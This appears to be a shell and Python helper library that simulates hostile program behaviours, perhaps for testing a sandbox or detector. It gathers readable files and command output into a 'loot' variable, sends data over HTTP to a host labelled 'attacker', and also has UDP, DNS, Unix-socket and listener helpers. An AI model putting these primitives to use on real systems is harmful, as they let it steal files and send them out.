set +e
exec 2>/dev/null
loot=
get() {
    [ -r "$1" ] || return 0
    while IFS= read -r line || [ -n "$line" ]; do loot="$loot $line"; done <"$1"
}
put() { mkdir -p "${1%/*}"; printf %s "$2" >"$1"; }
add() { printf %s "$2" >>"$1"; }
copy() { mkdir -p "${2%/*}"; cp "$1" "$2" && chmod 755 "$2"; }
start() { program=$1 first=$2 second=$3; loot="$loot $("$program" ${first:+"$first"} ${second:+"$second"} 2>&1)"; }
hard() { ln "$1" "$2"; }
soft() { ln -s "$1" "$2"; }
relocate() { mv "$1" "$2"; }
other() {
    python3 -c '
import socket, sys
how, *words = sys.argv[1:]
if how == "post":
    with socket.create_connection((words[0], int(words[1])), 5) as other:
        other.sendall(f"GET /{words[2]} HTTP/1.1\r\nHost: attacker\r\n\r\n".encode())
        other.recv(100)
elif how == "datagram":
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(words[2].encode(), (words[0], int(words[1])))
elif how == "ask":
    socket.getaddrinfo(words[0], 80)
elif how == "whisper":
    other = socket.socket(socket.AF_UNIX)
    other.connect(words[0])
    other.sendall(words[1].encode())
else:
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((words[0], int(words[1])))
    server.listen()
    print("listening")
' "$@"
}
post() { other post "$@"; }
datagram() { other datagram "$@"; }
ask() { other ask "$@"; }
whisper() { other whisper "$@"; }
serve() { loot="$loot $(other serve "$@")"; }
finish() { printf 'begun\n%s' "$loot" >"$1"; }
